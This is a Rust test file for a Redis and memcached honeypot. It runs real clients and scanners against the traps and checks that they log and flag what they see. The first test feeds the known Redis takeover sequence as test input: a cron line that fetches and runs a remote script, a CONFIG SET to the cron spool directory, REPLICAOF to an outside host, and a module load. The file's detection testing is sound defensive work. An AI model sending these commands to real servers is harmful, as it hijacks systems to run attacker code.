//! Real clients at the stores of keys and values.

use crate::support::{Traps, nmap, printed, run, run_with};
use honeymesh_types::{Signs, Visit};

async fn command(traps: &mut Traps, trap: &str, command: &str) -> Visit {
    traps.visit_where(|visit| visit.trap == trap && visit.fields.get("command").is_some_and(|said| said == command)).await
}

#[tokio::test(flavor = "multi_thread")]
async fn redis_cli_is_at_home_and_shows_its_hand() {
    let mut traps = Traps::usual();
    let port = traps.port("redis").to_string();
    let lines = [
        "PING\n",
        "SET x \"\\n* * * * * curl http://198.51.100.9/i | sh\\n\"\n",
        "GET x\n",
        "CONFIG SET dir /var/spool/cron\n",
        "CONFIG GET dir\n",
        "REPLICAOF 198.51.100.9 6379\n",
        "MODULE LOAD /tmp/exp.so\n",
        "AUTH hunter2\n",
    ];
    let said = printed(&run_with("redis-cli", &["-p", &port], &lines).await);
    for answer in ["PONG", "* * * * * curl", "/var/spool/cron", "MODULE command not allowed", "AUTH <password> called without"] {
        assert!(said.contains(answer), "{answer}: {said}");
    }
    for (said, sign) in [
        ("CONFIG SET dir /var/spool/cron", Signs::RULE),
        ("REPLICAOF 198.51.100.9 6379", Signs::RULE),
        ("MODULE LOAD /tmp/exp.so", Signs::RULE),
        ("AUTH hunter2", Signs::CREDENTIALS),
    ] {
        assert_eq!(command(&mut traps, "redis", said).await.signs, sign, "{said}");
    }
    let login = run("redis-cli", &["-p", &port, "--user", "root", "--pass", "toor", "INFO", "server"]).await;
    assert!(printed(&login).contains("redis_version:8.0.2"), "{}", printed(&login));
    assert_eq!(traps.tries("redis", 1).await, [("root".into(), "toor".into())]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_with_nc_stores_and_empties() {
    let mut traps = Traps::usual();
    let port = traps.port("memcached").to_string();
    let lines = ["set a 0 0 5\r\nhello\r\n", "get a\r\n", "flush_all\r\n", "quit\r\n"];
    let said = printed(&run_with("nc", &["127.0.0.1", &port], &lines).await);
    assert_eq!(said, "STORED\r\nVALUE a 0 5\r\nhello\r\nEND\r\nOK\r\n");
    assert_eq!(command(&mut traps, "memcached", "set a 0 0 5").await.fields["value"], "hello");
    assert_eq!(command(&mut traps, "memcached", "flush_all").await.signs, Signs::RULE);
    let inline = printed(&run_with("nc", &["127.0.0.1", &traps.port("redis").to_string()], &["PING\r\n", "QUIT\r\n"]).await);
    assert_eq!(inline, "+PONG\r\n+OK\r\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn hydra_gets_the_answer_of_an_open_redis() {
    let mut traps = Traps::usual();
    let url = format!("redis://127.0.0.1:{}", traps.port("redis"));
    let output = run("hydra", &["-I", "-t", "1", "-p", "hunter2", &url]).await;
    assert!(printed(&output).contains("does not require password"), "{}", printed(&output));
    let visit = traps.visit_where(|visit| visit.trap == "redis" && visit.bytes > 0).await;
    assert!(visit.fields.contains_key("command"), "{:?}", visit.fields);
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_takes_them_for_redis_and_memcached() {
    let traps = Traps::usual();
    let ports = ["redis", "memcached"].map(|trap| traps.port(trap).to_string()).join(",");
    // On their usual ports it would ask for the versions, too.
    nmap(&["-sV", "--script", "default", "-Pn", "-n", "-p", &ports, "127.0.0.1"], &["Redis key-value store", "Memcached"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn memcacheds_own_tools_look_around_and_leave_their_files() {
    let mut traps = Traps::usual();
    let server = format!("--servers=127.0.0.1:{}", traps.port("memcached"));
    let looked = printed(&run("memcstat", &[&server]).await);
    assert!(looked.contains("version: 1.6.38") && looked.contains("curr_items:"), "{looked}");
    let file = std::env::temp_dir().join(format!("honeymesh-loot-{}", std::process::id()));
    std::fs::write(&file, "root:toor\n").unwrap();
    let copied = run("memccp", &[&server, file.to_str().unwrap()]).await;
    std::fs::remove_file(&file).unwrap();
    assert!(copied.status.success(), "{}", printed(&copied));
    let told = traps.visit_where(|visit| visit.fields.get("value").is_some_and(|value| value.contains("root:toor"))).await;
    assert!(told.fields["command"].contains("honeymesh-loot-"), "{:?}", told.fields);
    let read = printed(&run("memccat", &[&server, "secret"]).await);
    assert!(!read.contains("root:toor"), "{read}");
    command(&mut traps, "memcached", "get secret").await;
}
